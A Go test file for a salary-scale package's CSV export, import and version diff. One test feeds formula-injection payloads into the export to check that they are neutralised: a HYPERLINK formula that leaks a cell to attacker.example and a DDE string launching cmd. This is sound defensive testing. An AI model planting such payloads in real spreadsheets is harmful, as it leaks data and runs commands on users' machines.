package salaryscales

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/carddesk/carddesk/models"
)

func TestCSVRoundTrip(t *testing.T) {
	for name, v := range map[string]Version{"seed": Seed(), "two steps": twoSteps()} {
		t.Run(name, func(t *testing.T) {
			v.SourceNote = `Note with "quotes", commas; and é ł ş ă ư` // survives quoting
			var buf bytes.Buffer
			if err := ExportCSV(&buf, v); err != nil {
				t.Fatal(err)
			}
			got, err := ImportCSV(&buf)
			if err != nil {
				t.Fatalf("import: %v\n%s", err, buf.String())
			}
			want := v.Clone()
			want.ID, want.Status, want.PublishedAt = 0, StatusDraft, time.Time{}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("round trip:\n got %+v\nwant %+v", got, want)
			}
		})
	}
}

// TestCSVExportNeutralisesFormulas: a source note or category label that a
// spreadsheet would run as a formula is written with an apostrophe in front,
// and the import reads the scale back unchanged.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	v := Seed()
	v.SourceNote = `=HYPERLINK("http://attacker.example/?"&A1,"JC 323")`
	v.Categories[0].Label = "@SUM(1+1)*cmd|' /C calc'!A0"
	v.Categories[1].Label = "-Cleaning+"
	var buf bytes.Buffer
	if err := ExportCSV(&buf, v); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{`source_note,"'=HYPERLINK(`, `,'@SUM(1+1)*cmd|' /C calc'!A0`, ",'-Cleaning+"} {
		if !strings.Contains(out, want) {
			t.Errorf("export lacks %s:\n%s", want, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		for _, cell := range strings.Split(line, ",") {
			if cell != "" && strings.ContainsRune("=+-@", rune(strings.TrimPrefix(cell, `"`)[0])) {
				t.Errorf("cell %q of line %q starts with a formula character", cell, line)
			}
		}
	}
	got, err := ImportCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.SourceNote != v.SourceNote || got.Categories[0].Label != v.Categories[0].Label || got.Categories[1].Label != v.Categories[1].Label {
		t.Errorf("read back %q %q %q", got.SourceNote, got.Categories[0].Label, got.Categories[1].Label)
	}
}

func TestCSVExportIsStable(t *testing.T) {
	var a, b bytes.Buffer
	if err := ExportCSV(&a, Seed()); err != nil {
		t.Fatal(err)
	}
	if err := ExportCSV(&b, Seed()); err != nil {
		t.Fatal(err)
	}
	if a.String() != b.String() {
		t.Error("export differs between runs")
	}
	if !strings.Contains(a.String(), "rate,cleaning,0,2070.48,12.57\n") || !strings.Contains(a.String(), "board,breakfast,0.55\n") {
		t.Errorf("unexpected export:\n%s", a.String())
	}
}

const goodCSV = `format,carddesk-salary-scale,1
effective_date,2025-01-01
reference_weekly_hours,38
deduction_cap_percent,20
whole_dwelling_cap_percent,40
source_note,JC 323 test
board,breakfast,0.55
board,midday,1.09
board,evening,0.84
board,lodging,0.74
category,cleaning,Cleaning
rate,cleaning,0,2000.00,12.15
rate,cleaning,5,2100.00,12.75
`

func TestImportCSV(t *testing.T) {
	t.Run("semicolons and decimal commas", func(t *testing.T) {
		in := "\uFEFF# exported by a spreadsheet\n" + strings.NewReplacer(",", ";", "2000.00", "2000,00", "12.75", "12,75").Replace(goodCSV)
		v, err := ImportCSV(strings.NewReader(in))
		if err != nil {
			t.Fatal(err)
		}
		if r, _ := v.Rate("cleaning", 5); r.Hourly != 1275 || v.Rates[0].Monthly != 200000 {
			t.Errorf("rates = %+v", v.Rates)
		}
		if v.Status != StatusDraft || !reflect.DeepEqual(v.Steps, []int{0, 5}) {
			t.Errorf("got %+v", v)
		}
	})
	t.Run("steps come from rate lines in any order", func(t *testing.T) {
		in := strings.Replace(goodCSV, "rate,cleaning,0,2000.00,12.15\nrate,cleaning,5,2100.00,12.75\n",
			"rate,cleaning,5,2100.00,12.75\nrate,cleaning,0,2000.00,12.15\n", 1)
		v, err := ImportCSV(strings.NewReader(in))
		if err != nil || !reflect.DeepEqual(v.Steps, []int{0, 5}) {
			t.Fatalf("%v %v", v.Steps, err)
		}
	})

	tests := []struct {
		name string
		in   string
		want []string // each must appear in one message
	}{
		{"empty", "", []string{"The file is empty."}},
		{"not ours", "name,amount\nx,1\n", []string{"line 1: the file must start with"}},
		{"wrong format version", strings.Replace(goodCSV, "salary-scale,1", "salary-scale,2", 1), []string{"line 1: unsupported format"}},
		{"bad amount", strings.Replace(goodCSV, "2100.00", "2100.001", 1), []string{"line 13: rate cleaning from 5 years: monthly amount \"2100.001\""}},
		{"bad date", strings.Replace(goodCSV, "2025-01-01", "01/01/2025", 1), []string{"line 2: effective_date \"01/01/2025\" is not a date"}},
		{"wrong field count", strings.Replace(goodCSV, "category,cleaning,Cleaning", "category,cleaning", 1), []string{"line 11: category takes 3 fields, found 2"}},
		{"unknown record", goodCSV + "bonus,1\n", []string{"line 14: unknown record \"bonus\""}},
		{"unknown board item", strings.Replace(goodCSV, "board,lodging", "board,garage", 1), []string{"line 10: unknown board item \"garage\""}},
		{"duplicate setting", goodCSV + "effective_date,2026-01-01\n", []string{"line 14: effective_date is already given on line 2"}},
		{"several at once, in line order", strings.Replace(strings.Replace(goodCSV, "12.15", "x", 1), "0.84", "-", 1),
			[]string{"line 9: board evening", "line 12: rate cleaning from 0 years: hourly"}},
		{"validation errors carry their line", strings.Replace(goodCSV, "2100.00", "1999.99", 1),
			[]string{"line 13: Cleaning from 5 years pays EUR 1,999.99 a month, less than EUR 2,000.00"}},
		{"negative amount carries its line", strings.Replace(goodCSV, "board,midday,1.09", "board,midday,-1.09", 1),
			[]string{"line 8: An amount cannot be negative."}},
		{"missing rate has no line", goodCSV + "category,childcare,Childcare\n", []string{"Enter the monthly minimum for Childcare from 0 years."}},
		{"unterminated quote", goodCSV + "source_note,\"open\n", []string{"line 14:"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ImportCSV(strings.NewReader(tt.in))
			var de *models.Error
			if !errors.As(err, &de) || de.Kind != models.KindInvalid {
				t.Fatalf("want invalid error, got %v", err)
			}
			var msgs []string
			for _, f := range de.Fields {
				if f.Field != "file" {
					t.Errorf("field %q, want file", f.Field)
				}
				msgs = append(msgs, models.Render(f.Message, f.Args))
			}
			all := strings.Join(msgs, "\n")
			last := -1
			for _, w := range tt.want {
				i := strings.Index(all, w)
				if i < 0 {
					t.Errorf("no message contains %q; got:\n%s", w, all)
				}
				if i < last {
					t.Errorf("%q out of order in:\n%s", w, all)
				}
				last = i
			}
		})
	}
}

func TestDiff(t *testing.T) {
	old := Seed()
	draft, err := ApplyIndexation(NewDraftFrom(old), 2)
	if err != nil {
		t.Fatal(err)
	}
	draft.EffectiveDate = date(2025, time.January, 1)
	draft.Categories = append(draft.Categories, Category{"gardening", "Gardening"})
	draft.Rates = append(draft.Rates, Rate{"gardening", 0, 250000, 1500})
	draft.Board.Lodging = 80

	rows := Diff(old, draft)
	find := func(section, item, cat string) DiffRow {
		t.Helper()
		for _, r := range rows {
			if r.Section == section && r.Item == item && r.Category == cat {
				return r
			}
		}
		t.Fatalf("no row %s/%s/%s", section, item, cat)
		return DiffRow{}
	}
	tests := []struct {
		row              DiffRow
		old, new, change string
		changed          bool
	}{
		{find(SectionVersion, "effective_date", ""), "2024-05-01", "2025-01-01", "", true},
		{find(SectionVersion, "reference_weekly_hours", ""), "38", "38", "", false},
		{find(SectionRate, "monthly", "cleaning"), "2070.48", "2111.89", "+2.00%", true},
		{find(SectionRate, "hourly", "childcare"), "12.57", "12.83", "+2.07%", true},
		{find(SectionRate, "monthly", "gardening"), "", "2500.00", "", true},
		{find(SectionBoard, "breakfast", ""), "0.55", "0.55", "+0.00%", false},
		{find(SectionBoard, "lodging", ""), "0.74", "0.80", "+8.11%", true},
	}
	for _, tt := range tests {
		if tt.row.Old != tt.old || tt.row.New != tt.new || tt.row.Change != tt.change || tt.row.Changed != tt.changed {
			t.Errorf("%s/%s/%s = %+v", tt.row.Section, tt.row.Item, tt.row.Category, tt.row)
		}
	}
	// Categories keep the old order, then additions.
	var order []string
	for _, r := range rows {
		if r.Section == SectionRate && r.Item == "monthly" {
			order = append(order, r.Category)
		}
	}
	if strings.Join(order, ",") != "cleaning,household,childcare,gardening" {
		t.Errorf("order = %v", order)
	}
	// Identical versions: nothing changed.
	for _, r := range Diff(old, old) {
		if r.Changed {
			t.Errorf("unchanged version shows a change: %+v", r)
		}
	}
}
